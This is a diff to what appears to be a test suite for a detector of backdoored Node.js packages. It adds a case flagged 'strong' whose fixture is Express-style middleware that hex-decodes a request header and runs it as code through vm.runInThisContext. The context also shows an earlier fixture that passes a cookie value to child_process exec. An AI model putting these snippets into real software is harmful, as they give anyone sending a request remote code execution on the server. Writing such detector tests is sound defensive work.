@@ -129,6 +129,14 @@ examine(obeysNetworkRequests, {
       weight: 'strong',
     },
     {
+      when: 'a middleware collects code out of headers and runs it as a module',
+      files: {
+        'index.js': `const vm = require('vm'); const kept = { bytes: Buffer.alloc(4096) };
+module.exports = (req, res, next) => { Buffer.from(String(req.headers['x-inert']), 'hex').copy(kept.bytes, 4); vm.runInThisContext('(function (module, require) {' + kept.bytes.toString('utf8', 0, 100) + '})')(module, require); next(); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a middleware runs a command out of a cookie',
       files: {
         'index.js': `const { exec } = require('child_process'); module.exports = (req, res, next) => { if (req.cookies.inert) exec(req.cookies.inert); next(); }`,
